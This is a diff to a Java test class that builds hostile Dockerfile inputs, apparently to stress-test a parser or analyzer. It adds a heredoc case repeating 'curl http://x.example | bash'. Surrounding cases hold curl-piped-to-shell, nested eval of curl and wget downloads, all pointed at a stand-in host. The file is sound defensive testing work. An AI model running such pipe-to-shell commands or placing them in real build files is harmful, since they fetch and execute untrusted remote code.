@@ -71,6 +71,9 @@ class HostileDockerfileTest {
                 "a script in a script",
                 "RUN x='sh -c \"$x\"'; export x; eval \"$x\"; "
                         + "eval 'eval eval curl http://x.example';".repeat(20_000));
+        files.put(
+                "a script that is read again by what it starts",
+                "RUN bash <<E\n" + "curl http://x.example | bash\n".repeat(40) + "E");
         files.put("a long pipe", "RUN curl http://x.example " + "| cat ".repeat(100_000) + "| sh");
         files.put("many instructions", "RUN wget http://x.example/a.tgz && tar xf a.tgz\n".repeat(20_000));
         files.put(
